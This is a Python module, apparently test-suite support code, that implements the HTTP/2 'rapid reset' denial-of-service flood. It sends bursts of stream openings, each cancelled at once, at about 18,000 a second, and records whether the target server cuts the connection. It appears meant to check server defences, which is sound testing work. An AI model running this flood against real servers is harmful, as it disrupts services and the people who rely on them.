"""A rapid reset: calls that are reset as soon as they are sent, thousands a second, on one connection."""

from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from threading import Event

from support.attacked import Attacked
from support.processes import PATIENCE
from support.raw_http2 import END_HEADERS, HEADERS, RST_STREAM, frame

RESETS_A_BURST = 180
SECONDS_A_BURST = 0.01
"""The two make 18,000 calls a second."""

_CANCEL = (8).to_bytes(4, "big")


@dataclass(slots=True)
class Storm:
    """The calls that were sent and reset so far, and whether the server has ended the connection."""

    sent: int = 0
    was_ended: bool = False


@contextmanager
def resetting(target: Attacked, path: str) -> Iterator[Storm]:
    """During the block a connection opens calls and resets them, until the server ends it.

    If the server ends it before the first burst is sent as a whole, another connection follows.
    """
    over, storm = Event(), Storm()

    def flood() -> None:
        while not storm.sent and not over.is_set():
            flood_one_connection()

    def flood_one_connection() -> None:
        with target.raw() as connection, ThreadPoolExecutor(1) as reader:
            connection.begin()
            read = reader.submit(connection.wait_for_end)
            headers, stream = target.headers(path), 1
            with suppress(OSError):
                while not over.wait(SECONDS_A_BURST) and not read.done():
                    numbers = range(stream, stream + 2 * RESETS_A_BURST, 2)
                    connection.send(*(_reset(number, headers) for number in numbers))
                    stream = numbers.stop
                    storm.sent += len(numbers)
            storm.was_ended = bool(storm.sent) and not over.is_set()
            connection.end()
            read.result(PATIENCE)

    with ThreadPoolExecutor(1) as pool:
        flooding = pool.submit(flood)
        try:
            yield storm
        finally:
            over.set()
        flooding.result(PATIENCE)


def _reset(stream: int, headers: bytes) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, _CANCEL)
